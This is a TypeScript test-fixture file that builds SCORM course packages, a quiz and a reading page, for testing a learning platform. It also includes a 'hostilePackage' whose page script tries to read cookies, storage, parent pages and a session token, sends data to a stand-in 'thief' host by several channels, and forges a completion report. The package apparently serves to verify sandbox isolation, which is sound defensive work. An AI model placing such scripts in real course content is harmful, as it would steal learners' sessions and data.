import { type ZipEntry, zipOf } from './zip.ts'

const NAMES = {
  '1.2': 'xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"',
  '2004 4th Edition': 'xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3"',
}
type Version = keyof typeof NAMES
type More = {
  readonly version?: string
  readonly parts?: number
  readonly href?: string
  readonly scormType?: string
  readonly top?: string
}

export const manifestOf = (
  of: Version,
  { version = of, parts = 1, href = 'pages/start.html', scormType = 'sco', top = '' }: More = {},
): string => {
  const all = Array.from({ length: parts }, (_, n) => n)
  return `<?xml version="1.0" encoding="UTF-8"?>
${top}<manifest identifier="M" ${NAMES[of]}>
  <metadata><schema>ADL SCORM</schema><schemaversion>${version}</schemaversion></metadata>
  <organizations default="O"><organization identifier="O"><title>Fire &amp; flood</title>
    ${all.map((n) => `<item identifier="I${n}" identifierref="R${n}"><title>Part ${n}</title></item>`).join('')}
  </organization></organizations>
  <resources>
    ${all.map((n) => `<resource identifier="R${n}" type="webcontent" ${of === '1.2' ? 'adlcp:scormtype' : 'adlcp:scormType'}="${scormType}" href="${href}"><file href="${href}"/></resource>`).join('')}
  </resources>
</manifest>`
}

const page = (title: string, body: string): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>`

const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><rect width="80" height="40" fill="#0b4f6c"/></svg>'

/** How content finds its system, according to the standard: upwards from its own window. */
const FIND = `function find(name) { var w = window, n = 0; while (!w[name] && w.parent && w.parent !== w && n++ < 9) w = w.parent; return w[name] }`

/** A SCORM 1.2 quiz on three pages: it stores the page and the answers, and reports its score. */
const QUIZ_SCRIPT = `${FIND}
var api = find('API'), at, right
api.LMSInitialize('')
at = Number(api.LMSGetValue('cmi.core.lesson_location') || 1)
right = Number((api.LMSGetValue('cmi.suspend_data') || 'right=0').split('=')[1])
function show() {
  document.getElementById('at').textContent = at > 2 ? 'Result: ' + right * 50 + ' of 100' : 'Question ' + at + ' of 2'
  document.getElementById('who').textContent = api.LMSGetValue('cmi.core.student_name')
  document.querySelectorAll('button').forEach(function (each) { each.hidden = at > 2 })
}
function answer(isRight) {
  right += isRight; at += 1
  api.LMSSetValue('cmi.core.lesson_location', String(at))
  api.LMSSetValue('cmi.suspend_data', 'right=' + right)
  api.LMSSetValue('cmi.core.session_time', '0000:01:30.00')
  api.LMSSetValue('cmi.core.lesson_status', at > 2 ? (right > 1 ? 'passed' : 'failed') : 'incomplete')
  api.LMSSetValue('cmi.core.exit', at > 2 ? '' : 'suspend')
  if (at > 2) { api.LMSSetValue('cmi.core.score.raw', String(right * 50)); api.LMSSetValue('cmi.core.score.max', '100') }
  at > 2 ? api.LMSFinish('') : api.LMSCommit('')
  if (at <= 2) show()
  else { document.getElementById('at').textContent = 'Result: ' + right * 50 + ' of 100'; document.querySelectorAll('button').forEach(function (each) { each.hidden = true }) }
}
document.getElementById('right').onclick = function () { answer(1) }
document.getElementById('wrong').onclick = function () { answer(0) }
show()`

const QUIZ_PAGE = page(
  'Fire and flood',
  `<img id="picture" src="../pictures/house.svg" alt="A house"><p id="at"></p><p id="who"></p>
<button id="right">Acts of nature must be added</button> <button id="wrong">They never are covered</button><script src="../scripts/quiz.js"></script>`,
)

export const quizPackage = (more: readonly ZipEntry[] = []): Uint8Array<ArrayBuffer> =>
  zipOf([
    { name: 'imsmanifest.xml', content: manifestOf('1.2') },
    { name: 'pages/start.html', content: QUIZ_PAGE },
    { name: 'scripts/quiz.js', content: QUIZ_SCRIPT },
    { name: 'pictures/house.svg', content: PICTURE },
    ...more,
  ])

/** A SCORM 2004 page that is complete as soon as it has been read. */
export const readingPackage = (): Uint8Array<ArrayBuffer> =>
  zipOf([
    { name: 'imsmanifest.xml', content: manifestOf('2004 4th Edition') },
    {
      name: 'pages/start.html',
      content: page(
        'Claims by water',
        `<button id="done">I have read it</button><p id="before"></p><script>${FIND}
var api = find('API_1484_11')
api.Initialize('')
document.getElementById('before').textContent = api.GetValue('cmi.entry') + ' ' + api.GetValue('cmi.suspend_data')
document.getElementById('done').onclick = function () {
  api.SetValue('cmi.suspend_data', 'read'); api.SetValue('cmi.score.scaled', '0.9'); api.SetValue('cmi.session_time', 'PT2M')
  api.SetValue('cmi.completion_status', 'completed'); api.Terminate('')
}</script>`,
      ),
    },
  ])

/** Tries everything that a page may try to read or send, and records what it got; `thief` is an address that counts its callers. */
export const hostilePackage = (thief: string): Uint8Array<ArrayBuffer> =>
  zipOf([
    { name: 'imsmanifest.xml', content: manifestOf('1.2') },
    {
      name: 'pages/start.html',
      content: page(
        'A thief',
        `<pre id="got"></pre><div id="over">trying</div><script>${FIND}
var api = find('API'); api.LMSInitialize('')
var got = [], own = new URL(location.href).origin
function attempt(name, act) { try { var r = act(); if (r && r.then) return r.then(function (v) { got.push(name + ': ' + v) }, function () {}); if (r) got.push(name + ': ' + r) } catch (e) {} }
function asked(name, make) { return new Promise(function (done) { try { var e = make(); e.onload = function () { got.push(name); done() }; e.onerror = done; document.body.appendChild(e); setTimeout(done, 1500) } catch (e) { done() } }) }
attempt('cookies', function () { return document.cookie })
attempt('cookie kept', function () { document.cookie = 'kept=1'; return document.cookie })
attempt('storage', function () { return localStorage.length + 1 })
attempt('session storage', function () { return sessionStorage.length + 1 })
attempt('parent page', function () { return parent.document.title })
attempt('top page', function () { return top.document.body.innerHTML })
attempt('frame', function () { return window.frameElement })
attempt('opened', function () { return window.open('${thief}/open') })
Promise.all([
  attempt('own api', function () { return fetch(own + '/sdx-api/secure/user/learning/courses').then(function (r) { return r.status }) }),
  attempt('token', function () { return fetch(own + '/sdx-api/auth/session/token', { method: 'POST', credentials: 'include' }).then(function (r) { return r.status }) }),
  attempt('elsewhere', function () { return fetch('${thief}/fetch', { mode: 'no-cors' }).then(function () { return 'sent' }) }),
  attempt('databases', function () { return indexedDB.databases().then(function (d) { return d.length + 1 }) }),
  attempt('caches', function () { return caches.keys().then(function (k) { return k.length + 1 }) }),
  attempt('worker', function () { return navigator.serviceWorker.getRegistrations().then(function (r) { return r.length + 1 }) }),
  asked('picture elsewhere', function () { var i = new Image(); i.src = '${thief}/picture'; return i }),
  asked('script elsewhere', function () { var s = document.createElement('script'); s.src = '${thief}/script'; return s }),
  asked('our page as script', function () { var s = document.createElement('script'); s.src = own + '/app/boot.js'; return s }),
  asked('our picture', function () { var i = new Image(); i.src = own + '/app/logo.svg'; return i }),
]).then(function () {
  attempt('beacon', function () { return navigator.sendBeacon('${thief}/beacon', 'x') && '' })
  attempt('socket', function () { new WebSocket('${thief}'.replace('http', 'ws') + '/socket') })
  attempt('form', function () { var f = document.createElement('form'); f.action = '${thief}/form'; f.method = 'post'; document.body.appendChild(f); f.submit() })
  attempt('top', function () { top.location.href = '${thief}/top' })
  top.postMessage({ kind: 'kalasag-package-report', report: { completion: 'a lie' } }, '*')
  document.getElementById('got').textContent = got.join('\\n')
  document.getElementById('over').textContent = 'over'
  api.LMSSetValue('cmi.suspend_data', 'tried'); api.LMSCommit('')
  setTimeout(function () { location.href = '${thief}/self' }, 500)
})</script>`,
      ),
    },
  ])
